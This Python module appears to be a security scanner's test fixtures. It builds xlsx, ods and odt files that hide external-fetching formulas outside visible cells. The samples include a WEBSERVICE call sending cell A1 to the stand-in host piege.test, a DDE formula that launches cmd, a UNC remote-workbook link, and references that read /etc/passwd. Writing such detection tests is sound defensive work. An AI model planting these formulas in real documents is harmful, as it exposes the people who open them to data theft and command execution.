"""Spreadsheets that fetch or run something from where no cell shows a formula."""

from tests.vault.packed import R, Trap
from tests.vault.samples import odf_parts, xlsx_parts, zipped

_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_CALCEXT = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"
FETCH = 'WEBSERVICE("https://piege.test/?"&amp;A1)'
#: The same, as it stands in an attribute.
FETCHED = "of:=COM.MICROSOFT.WEBSERVICE(&quot;https://piege.test/&quot;)"

_TRUE = f"of:is-true-formula({FETCHED.removeprefix('of:=')}=1)"


def part(name: str, root: str, inside: str) -> bytes:
    """A workbook with this part more."""
    return zipped({**xlsx_parts(), name: f'<{root} xmlns="{_SHEET}">{inside}</{root}>'})


def sheet(inside: str) -> bytes:
    """A workbook whose sheet has no cell, and this beside them."""
    return part("xl/worksheets/sheet1.xml", "worksheet", f"<sheetData/>{inside}")


def ods(more: str) -> bytes:
    return zipped(odf_parts("spreadsheet", more=more))


def rule(formula: str) -> bytes:
    """A workbook in which this formula says which cells are coloured."""
    return sheet(
        f"<conditionalFormatting><cfRule><formula>{formula}</formula></cfRule></conditionalFormatting>"
    )


def named(expression: str) -> bytes:
    """A sheet of LibreOffice with this formula under a name."""
    return ods(
        '<table:named-expressions><table:named-expression table:name="X"'
        f' table:expression="{expression}"/></table:named-expressions>'
    )


def _validated(tag: str) -> bytes:
    rules = f'<dataValidation type="custom" sqref="A1"><{tag}>{FETCH}=1</{tag}></dataValidation>'
    return sheet(f"<dataValidations>{rules}</dataValidations>")


def _column(tag: str) -> bytes:
    column = f'<tableColumn id="1" name="a"><{tag}>{FETCH}</{tag}></tableColumn>'
    return part("xl/tables/table1.xml", "table", f"<tableColumns>{column}</tableColumns>")


def _extended(inside: str) -> bytes:
    return sheet(
        '<extLst><ext xmlns:x14="urn:x14" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        f"{inside}</ext></extLst>"
    )


_FILES = {
    "a condition that colours": ("a.xlsx", rule(f'{FETCH}="x"')),
    "what may be typed": ("a.xlsx", _validated("formula1")),
    "what may be typed at most": ("a.xlsx", _validated("formula2")),
    "a column of a table": ("a.xlsx", _column("calculatedColumnFormula")),
    "the sum below a table": ("a.xlsx", _column("totalsRowFormula")),
    "a name": (
        "a.xlsx",
        part("xl/names.xml", "workbook", f'<definedName name="X">{FETCH}</definedName>'),
    ),
    "a sparkline": (
        "a.xlsx",
        _extended(f"<x14:sparkline><xm:f>{FETCH}</xm:f></x14:sparkline>"),
    ),
    "a formula around a formula": (
        "a.xlsx",
        _extended(f"<x14:formula1>WEB<xm:f/>{FETCH.removeprefix('WEB')}</x14:formula1>"),
    ),
    "a field of a pivot": (
        "a.xlsx",
        part("xl/pivot.xml", "a", "<cacheField formula='WEBSERVICE(\"https://piege.test\")'/>"),
    ),
    "a button": ("a.xlsx", part("xl/ctrl.xml", "formControlPr", "<a fmlaLink='CALL(A1)'/>")),
    "a program in a cell": ("a.xlsx", sheet("<c><f>cmd|'/c calc'!A0</f></c>")),
    "another workbook in a cell": ("a.xlsx", sheet("<c><f>'\\\\piege\\[a.xlsx]A'!A0</f></c>")),
    "a text that a sum makes a formula": ("a.xlsx", rule('EVALUATE("WEB"&amp;A1)')),
    "a call behind a name with a quote": (
        "a.xlsx",
        rule(f'Table1[a"b]&amp;{FETCH}&amp;Table1[a"b]'),
    ),
    "a name of LibreOffice": ("a.ods", named(FETCHED)),
    "a name of LibreOffice that links": (
        "a.ods",
        named("of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;A1&quot;)"),
    ),
    "a sheet elsewhere": ("a.ods", named("of:=['file:///etc/passwd'#$A.A1]")),
    "a sheet beside": ("a.ods", named("of:=['autre.ods'#$A.A1]")),
    "a sheet elsewhere, in a text": (
        "a.ods",
        named("of:=INDIRECT(&quot;'file:///etc/passwd'#$A.A1&quot;)"),
    ),
    "what may be typed in LibreOffice": (
        "a.ods",
        ods(f'<table:content-validation table:condition="{_TRUE}"/>'),
    ),
    "a condition of a style": (
        "a.ods",
        ods(f'<style:map xmlns:style="urn:style" style:condition="{_TRUE}"/>'),
    ),
    "a condition of LibreOffice’s own": (
        "a.ods",
        ods(f'<own:condition xmlns:own="{_CALCEXT}" own:value="{_TRUE}"/>'),
    ),
    "a field of a letter": (
        "a.odt",
        zipped(odf_parts("text", more=f'<text:expression text:formula="{FETCHED}"/>')),
    ),
}

FORMULAS: dict[str, Trap] = {
    what: (name, content, R.OFFICE_EXTERNAL) for what, (name, content) in _FILES.items()
}
